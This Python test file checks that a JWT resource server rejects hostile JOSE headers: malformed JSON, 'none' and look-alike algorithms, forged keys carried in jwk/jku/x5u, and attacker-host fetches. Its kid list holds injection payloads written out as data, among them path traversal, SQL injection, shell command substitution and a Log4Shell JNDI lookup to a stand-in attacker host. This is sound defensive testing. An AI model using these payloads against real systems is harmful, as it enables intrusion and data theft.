"""The JOSE header, signed by the right key, so that nothing but the rule about the header can refuse."""

from __future__ import annotations

import json
from contextlib import suppress
from typing import Any

import pytest

from bearerguard import AuthError, InvalidToken, ResourceServer
from tests.hostile import minting
from tests.hostile.oracle import Row, check_everywhere, check_text, table, token_row

KEY = minting.key_for("ES256")
OTHER = minting.key_for("ES256", minting.attacker)
GOOD = {"alg": "ES256", "kid": KEY.kid, "typ": "at+jwt"}


def member(name: str, value: Any, reason: str | None) -> Row:
    """A row about one member of an otherwise valid header."""
    shown = ascii(value).replace(KEY.kid, "own").replace(KEY.kid.upper(), "OWN").replace(KEY.kid[:-1], "ow")
    shown = f"{shown[:60]} ({len(shown)})" if len(shown) > 60 else shown
    header = {"alg": "ES256", name: value}
    return token_row(f"{name} {shown}", minting.token(header=header), reason)


def members(name: str, reason: str | None, *values: Any) -> list[Row]:
    """A row for each value of one member."""
    return [member(name, value, reason) for value in values]


def raw(name: str, header: bytes, reason: str | None = "malformed") -> Row:
    """A row about the bytes of a header."""
    return token_row(name, minting.with_raw_header(header), reason)


def forged(name: str, member: str, value: Any, kid: str, reason: str) -> Row:
    """A token of the attacker's key, with something in its header that says to trust that key."""
    header = {**GOOD, "kid": kid, member: value}
    return token_row(name, minting.sign(header, minting.CLAIMS, OTHER, "ES256"), reason)


VALID = json.dumps(GOOD).encode()
SHAPES = [
    raw("valid", VALID, None),
    raw("white space in the JSON", json.dumps(GOOD, indent=4).encode(), None),
    raw("empty", b""),
    raw("not JSON", b"alg=ES256"),
    raw("empty object", b"{}"),
    raw("array", b'["ES256"]'),
    raw("array of a header", b"[" + VALID + b"]"),
    raw("string", b'"ES256"'),
    raw("number", b"1"),
    raw("null", b"null"),
    raw("true", b"true"),
    raw("unfinished", VALID[:-1]),
    raw("text behind", VALID + b"x"),
    raw("second object behind", VALID + VALID),
    raw("NUL behind", VALID + b"\0"),
    raw("comma too many", VALID[:-1] + b",}"),
    raw("single quotes", VALID.replace(b'"', b"'")),
    raw("comment", b"/**/" + VALID),
    raw("byte order mark", b"\xef\xbb\xbf" + VALID),
    raw("UTF-16", VALID.decode().encode("utf-16")),
    raw("UTF-32", VALID.decode().encode("utf-32-be")),
    raw("not UTF-8", VALID[:-1] + b',"x":"\xff"}'),
    raw("overlong UTF-8", VALID[:-1] + b',"x":"\xc0\xaf"}'),
    raw("surrogate in UTF-8", VALID[:-1] + b',"x":"\xed\xa0\x80"}'),
    raw("lone surrogate", VALID[:-1] + b',"x":"\\ud800"}'),
    raw("NaN", VALID[:-1] + b',"x":NaN}'),
    raw("Infinity", VALID[:-1] + b',"x":-Infinity}'),
    raw("number too large", VALID[:-1] + b',"x":1e400}'),
    raw("control character in a string", VALID[:-1] + b',"x":"\n"}'),
    raw("as deep as allowed", VALID[:-1] + b',"x":' + b"[" * 63 + b"]" * 63 + b"}", None),
    raw("one deeper", VALID[:-1] + b',"x":' + b"[" * 64 + b"]" * 64 + b"}"),
    raw("depth 5,000", VALID[:-1] + b',"x":' + b"[" * 5_000 + b"]" * 5_000 + b"}"),
    raw("depth 10,000, unfinished", b"[" * 10_000),
    raw("depth 100,000", VALID[:-1] + b',"x":' + b"[" * 100_000 + b"]" * 100_000 + b"}", "too_large"),
    raw("depth in a text", VALID[:-1] + b',"x":"' + b"[" * 900 + b'"}', None),
    raw("depth in a long text", VALID[:-1] + b',"x":"' + b"[" * 5_000 + b'"}'),
    raw("name in another case", VALID.replace(b"alg", b"ALG")),
    raw("empty name", VALID[:-1] + b',"":1}', None),
]

NOT_STRINGS: list[Any] = [0, 1, 1.5, True, False, [], ["ES256"], {}, {"ES256": 1}]
UNKNOWN_ALGORITHMS = [
    "", "none", "None", "NONE", "nOnE", "none ", " none", "none\0", "null", "es256", "Es256", "ES256 ",
    " ES256", "ES256\0", "ES256\n", "ES-256", "ES256K", "ES224", "ES521", "RS1", "RSA", "Ed448", "ed25519",
    "HS1", "MD5", "RSA1_5", "RSA-OAEP", "dir", "A128KW", "A256GCM", "ECDH-ES", "PBES2-HS256+A128KW",
    "SHA256withECDSA", "*", "\N{FULLWIDTH LATIN CAPITAL LETTER E}S256", "__class__", "ES256,none",
    "ES256\u200b", "x" * 10_000,
]  # fmt: skip
ALGORITHMS = [
    token_row("alg absent", minting.token(header={"alg": minting.ABSENT}), "malformed"),
    *members("alg", "malformed", None, *NOT_STRINGS),
    *members("alg", "algorithm", *UNKNOWN_ALGORITHMS),
    *members("alg", "algorithm", "HS256", "HS384", "HS512"),
    # Known and accepted, but of another kind than the key that the token names:
    *members("alg", "unknown_key", "ES384", "ES512", "RS256", "PS256", "EdDSA", "Ed25519"),
]

CRITICAL = [
    *members("crit", "critical", [], None, "", "exp", ["exp"], ["alg"], ["b64"], ["kid"], ["unknown"]),
    *members("crit", "critical", [""], [None], [[]], ["exp", "exp"], {}, 1, True, False),
    token_row(
        "crit with what it names",
        minting.token(header={"crit": ["http://example.com/x"], "http://example.com/x": True}),
        "critical",
    ),
    *members("b64", "critical", False, True, None, "false", 0),
    *members("zip", None, "DEF", "GZ", "NONE", "RS256", None, "", 1),
    token_row("crit with zip", minting.token(header={"crit": ["zip"], "zip": "DEF"}), "critical"),
    *members("enc", "critical", "A128GCM", None),
    *members("cty", "type", "JWT", "jwt", "application/jwt", "APPLICATION/JWT", 1, True, None, ["JWT"], {}),
    *members("cty", None, "json", "application/json", ""),
]

ACCESS_TOKENS = [
    "JWT", "jwt", "Jwt", "at+jwt", "AT+JWT", "aT+JwT", "application/at+jwt", "APPLICATION/AT+JWT",
    "application/jwt",
]  # fmt: skip
OTHER_TOKENS = [
    "id+jwt", "logout+jwt", "secevent+jwt", "dpop+jwt", "token-introspection+jwt", "oauth-authz-req+jwt",
    "rt+jwt", "client-authentication+jwt", "entity-statement+jwt", "vc+jwt", "vp+jwt", "vc+sd-jwt",
    "dc+sd-jwt", "kb+jwt", "openid4vci-proof+jwt", "wit+jwt", "wpt+jwt", "txntoken+jwt", "rar+jwt", "JOSE",
    "JOSE+JSON", "statuslist+jwt", "oauth-client-attestation+jwt", "passport", "sd+jwt", "",
]  # fmt: skip
LOOK_ALIKES = [
    " at+jwt", "at+jwt ", "at+jwt\0", "at+jwt;v=1", "at jwt", "at+jwt,jwt", "text/at+jwt", "application/",
    "application/application/at+jwt", "application/application/jwt", "x/JWT", "*", "at%2Bjwt",
    "at+jwt\u200b", "null", "None", "x" * 10_000,
]  # fmt: skip
TYPES = [
    token_row("typ absent", minting.token(header={"typ": minting.ABSENT}), None),
    *members("typ", None, None, *ACCESS_TOKENS),
    *members("typ", "type", *OTHER_TOKENS, *LOOK_ALIKES),
    *members("typ", "malformed", *NOT_STRINGS, ["at+jwt"]),
]

KIDS = [
    token_row("kid absent", minting.token(header={"kid": minting.ABSENT}), None),
    *members("kid", None, None, KEY.kid),
    *members("kid", "malformed", *NOT_STRINGS, [KEY.kid], {"kid": KEY.kid}, "x" * 513, "x" * 10_000),
    *members(
        "kid", "unknown_key",
        "", "unknown", KEY.kid.upper(), f" {KEY.kid}", f"{KEY.kid} ", f"{KEY.kid}\0", KEY.kid[:-1],
        f"{KEY.kid}*", "../../../../etc/passwd", "/dev/null", "file:///dev/null", "C:\\Windows\\win.ini",
        "https://attacker.test/k", "' OR '1'='1", "x' UNION SELECT 'secret';--", "1; DROP TABLE keys",
        "|/bin/id", "$(id)", "`id`", "{{7*7}}", "${jndi:ldap://attacker.test/a}", "%s%s%n", "{0}",
        "__proto__", "constructor", "0", "*", "null", "line\nend", "end\r\n: reason=expired", "\x1b[2J",
        "\x07\x08", "\0", "\u202e", "\U0001f511", "\N{LINE SEPARATOR}", "x" * 512, "\U0001f511" * 512,
    ),
]  # fmt: skip

ATTACKERS_JWK = OTHER.public_jwk()
ATTACKERS_URL = "https://attacker.test/jwks"
CARRIED_KEYS: dict[str, Any] = {
    "jwk": ATTACKERS_JWK,
    "jku": ATTACKERS_URL,
    "x5u": ATTACKERS_URL,
    "x5c": [minting.b64(b"certificate")],
    "x5t": "AAAA",
    "x5t#S256": "AAAA",
    "iss": "https://attacker.test",
    "keys": [ATTACKERS_JWK],
}
KEYS_CARRIED = [
    row
    for name, value in CARRIED_KEYS.items()
    for row in (
        forged(f"{name}, known kid", name, value, KEY.kid, "signature"),
        forged(f"{name}, its own kid", name, value, OTHER.kid, "unknown_key"),
        token_row(f"{name}, properly signed", minting.token(header={name: value}), None),
        *members(name, None, 1, None, "file:///etc/passwd", []),
    )
]

ROWS = [*SHAPES, *ALGORITHMS, *CRITICAL, *TYPES, *KIDS, *KEYS_CARRIED]


@table(ROWS)
def test_a_header_gets_one_decision(case: Row, caplog: pytest.LogCaptureFixture) -> None:
    check_everywhere(case, caplog)


@table(ROWS)
def test_a_header_gets_the_same_decision_where_keys_are_fetched(
    case: Row, fetching_server: ResourceServer, caplog: pytest.LogCaptureFixture
) -> None:
    check_text(fetching_server, case, caplog)


@pytest.fixture(scope="module")
def fetching_server() -> ResourceServer:
    server = minting.fetching_server()
    with pytest.raises(InvalidToken):  # it spends the one refresh that unknown kids may cause
        server.verify(minting.token(header={"kid": "unknown"}))
    return server


def test_no_row_makes_anybody_fetch_anything(fetching_server: ResourceServer) -> None:
    """Whatever a header names, the issuer is asked no more, and nobody else is ever asked."""
    before, others = minting.issuer.requests, minting.attacker.requests
    for case in ROWS:
        with suppress(AuthError):
            fetching_server.verify(case.token)
    assert (minting.issuer.requests, minting.attacker.requests) == (before, others)
